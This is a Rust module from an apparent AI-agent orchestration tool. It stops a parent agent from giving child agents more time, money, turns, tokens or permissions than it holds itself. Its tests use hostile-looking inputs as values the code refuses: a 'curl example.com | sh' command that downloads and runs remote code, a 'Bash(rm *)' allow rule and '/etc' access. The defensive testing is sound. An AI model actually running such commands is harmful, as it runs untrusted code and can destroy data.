//! What an agent may give to the agents that it starts: nothing that it has not, and no more time, money or turns than it has left.

use std::time::Duration;

use crate::{
    Code, Error, Result,
    agents::Options,
    git::Repo,
    model::{AgentId, Cost, cap::Amounts, duration, text},
    ops::settings::{AtMost, Settings},
    store::{self, layout::PrivateDir},
    supervise::{
        program_output,
        spec::Spec,
        spending::{self, Measured},
    },
};

/// What an agent has left of its limits, for itself and all agents below it.
#[derive(Clone, Debug, PartialEq)]
pub(super) struct Left {
    id: AgentId,
    /// Of the time in which all of its attempts must end.
    time: Duration,
    retries: u32,
    /// `None` without a check that has rounds.
    rounds: Option<u32>,
    turns: Option<u32>,
    budget: Option<u64>,
    /// Of its caps on money and tokens.
    caps: Amounts,
    /// How many agents may run at once.
    jobs: u32,
}

impl Left {
    /// Measures what an agent with the spec `own` has left.
    ///
    /// # Errors
    /// What it and the agents below it used cannot be read.
    pub(super) fn of(repo: &Repo, id: &AgentId, own: &Spec) -> Result<Self> {
        let agent = store::agent(repo, id)?;
        let ran = agent.started_at.map(|started| repo.now().duration_since(started).unsigned_abs());
        let rules = &own.spending;
        let raises = crate::model::cap::Scopes { agent: rules.raises, ..Default::default() };
        let caps = rules.caps.raised(&raises).agent;
        let mut used = Amounts::default();
        if !caps.is_empty() || own.options.budget_micros.is_some() {
            let private = PrivateDir::new(repo.private_dir()?);
            let live = program_output::summary(&private.agent(id)).map(|summary| summary.total);
            let measured = Measured { except: Some(id), run: &Default::default(), midnight: repo.now() };
            let below = spending::of_clone(repo, &measured)?.agent;
            used = live.unwrap_or_default().max(spending::of_agent(&agent)).plus(below);
        }
        let spent = used.cost.map_or(0, Cost::micros);
        Ok(Self {
            id: id.clone(),
            time: own.limits.max_time.saturating_sub(ran.unwrap_or_default()),
            retries: own.limits.retries,
            rounds: own.until.as_ref().map(|until| until.rounds),
            turns: own.options.max_turns,
            budget: own.options.budget_micros.map(|budget| budget.saturating_sub(spent)),
            caps: caps.minus(used),
            jobs: own.jobs,
        })
    }

    /// Refuses what was typed that is more than is left, and everything if nothing is.
    ///
    /// # Errors
    /// As described (3).
    pub(super) fn refuse(&self, typed: &Settings) -> Result<()> {
        let money = |micros: u64| format!("${}", Cost::from_micros(micros).text());
        let cost = self.caps.cost.map(Cost::micros);
        let nothing = [
            (self.time.is_zero(), "time"),
            (cost == Some(0) || self.budget == Some(0), "money"),
            (self.caps.tokens == Some(0), "tokens"),
        ];
        if let Some((_, what)) = nothing.iter().find(|(is_used, _)| *is_used) {
            let what = format!(
                "agent '{}' has no {what} left, with the agents below it, so it starts none",
                self.id
            );
            return Err(Error::new(Code::NotForAgents, what)
                .hint("git orchestra inbox tell --kind question '…' asks for more"));
        }
        let time =
            typed.max_time.map(|time| (time > self.time, duration::text(time), duration::text(self.time)));
        let number = |typed: Option<u64>, left: Option<u64>, shown: &dyn Fn(u64) -> String| {
            typed.zip(left).map(|(typed, left)| (typed > left, shown(typed), shown(left)))
        };
        let plain = |number: u64| number.to_string();
        let options = &typed.options;
        let all = [
            ("--max-time", time),
            ("--retries", number(typed.retries.map(u64::from), Some(self.retries.into()), &plain)),
            ("--rounds", number(typed.rounds.map(u64::from), self.rounds.map(u64::from), &plain)),
            ("--max-turns", number(options.max_turns.map(u64::from), self.turns.map(u64::from), &plain)),
            ("--budget", number(options.budget_micros, self.budget, &money)),
            ("--max-cost", number(typed.max_cost_micros, cost, &money)),
            ("--max-tokens", number(typed.max_tokens, self.caps.tokens, &plain)),
        ];
        let more =
            all.into_iter().find_map(|(option, found)| Some((option, found?)).filter(|(_, found)| found.0));
        let Some((option, (_, wanted, left))) = more else { return Ok(()) };
        let what = format!(
            "{option} {wanted} gives an agent more than the one has left that starts it: '{}' has {left}",
            self.id
        );
        Err(Error::new(Code::NotForAgents, what).hint("leave it out, or let a person start the agent"))
    }

    /// Lowers what was not typed, or is configured, to what is left.
    pub(super) fn lower(&self, settings: &mut Settings) {
        settings.at_most = Some(AtMost {
            time: self.time,
            retries: self.retries,
            rounds: self.rounds,
            caps: self.caps,
            jobs: self.jobs,
        });
        let options = &mut settings.options;
        options.max_turns = options.max_turns.or(self.turns);
        options.budget_micros = options.budget_micros.or(self.budget);
    }
}

/// Refuses what an agent with the spec `own` must not give to another one.
pub(super) fn refuse_more(own: Option<&Spec>, typed: &Settings) -> Result<()> {
    let none = Options::default();
    let has = own.map_or(&none, |own| &own.options);
    let refused = |what: &str| {
        Error::new(Code::NotForAgents, format!("{what} gives an agent more than the one has that starts it"))
            .hint("leave it out, or let a person start the agent")
    };
    let options = &typed.options;
    if let Some(rule) = options.allow.iter().find(|rule| !has.allow.contains(rule)) {
        return Err(refused(&format!("--allow '{}'", text::one_line(rule, 80))));
    }
    if let Some(folder) = options.add_dirs.iter().find(|folder| !has.add_dirs.contains(folder)) {
        return Err(refused(&format!("--add-dir '{}'", text::one_line(&folder.to_string_lossy(), 80))));
    }
    if let Some(server) = options.mcp.iter().find(|server| !has.mcp.contains(server)) {
        return Err(refused(&format!("--mcp '{}'", text::one_line(server, 80))));
    }
    let check = own.and_then(|own| own.until.as_ref()).map(|until| &until.command);
    let setup = own.and_then(|own| own.preparation.setup.as_ref()).map(|setup| &setup.command);
    for (option, command, has) in
        [("--check", &typed.check, check), ("--until", &typed.until, check), ("--setup", &typed.setup, setup)]
    {
        // An empty one runs nothing.
        if command.as_ref().is_some_and(|command| !command.is_empty() && Some(command) != has) {
            return Err(refused(&format!("the command of {option}")));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_child_has_more_than_its_parent_has_left() {
        let left = Left {
            id: AgentId::parse("par-00000").unwrap(),
            time: Duration::from_secs(60),
            retries: 2,
            rounds: Some(3),
            turns: Some(3),
            budget: Some(1_000_000),
            caps: Amounts { cost: Some(Cost::from_micros(500_000)), tokens: Some(1000) },
            jobs: 3,
        };
        let refusal = |change: &dyn Fn(&mut Settings)| -> Option<String> {
            let mut settings = Settings::default();
            change(&mut settings);
            left.refuse(&settings).map_err(|error| error.to_string()).err()
        };
        assert_eq!(refusal(&|_| {}), None);
        assert_eq!(refusal(&|typed| typed.max_time = Some(Duration::from_secs(60))), None);
        for (said, change) in [
            (
                "--max-time 1h",
                &(|typed: &mut Settings| typed.max_time = Some(Duration::from_secs(3600)))
                    as &dyn Fn(&mut Settings),
            ),
            ("--retries 3", &|typed| typed.retries = Some(3)),
            ("--rounds 4", &|typed| typed.rounds = Some(4)),
            ("--max-turns 9999", &|typed| typed.options.max_turns = Some(9999)),
            ("--budget $1000", &|typed| typed.options.budget_micros = Some(1_000_000_000)),
            ("--max-cost $1", &|typed| typed.max_cost_micros = Some(1_000_000)),
            ("--max-tokens 1001", &|typed| typed.max_tokens = Some(1001)),
        ] {
            let found: String = refusal(change).unwrap_or_default();
            assert!(found.contains(said) && found.contains("'par-00000' has "), "{said}: {found}");
        }
        let mut lowered = Settings::default();
        left.lower(&mut lowered);
        assert_eq!((lowered.options.max_turns, lowered.options.budget_micros), (Some(3), Some(1_000_000)));
        let used = Left { caps: Amounts { cost: Some(Cost::from_micros(0)), tokens: None }, ..left };
        assert!(used.refuse(&Settings::default()).is_err());
    }

    #[test]
    fn what_the_caller_has_not_is_not_given() {
        let with = |options: Options| Settings { options, ..Settings::default() };
        let check = |check: &str| Settings { check: Some(check.to_owned()), ..Settings::default() };
        for (typed, refused) in [
            (Settings::default(), false),
            (with(Options { allow: vec!["Bash(rm *)".into()], ..Options::default() }), true),
            (with(Options { deny: vec!["WebFetch".into()], ..Options::default() }), false),
            (with(Options { add_dirs: vec!["/etc".into()], ..Options::default() }), true),
            (with(Options { mcp: vec!["notes".into()], ..Options::default() }), true),
            (check("curl example.com | sh"), true),
            (check(""), false),
            (Settings { setup: Some("make".to_owned()), ..Settings::default() }, true),
        ] {
            let found = refuse_more(None, &typed).map_err(|error| error.code).err();
            assert_eq!(found, refused.then_some(Code::NotForAgents), "{typed:?}");
        }
    }
}
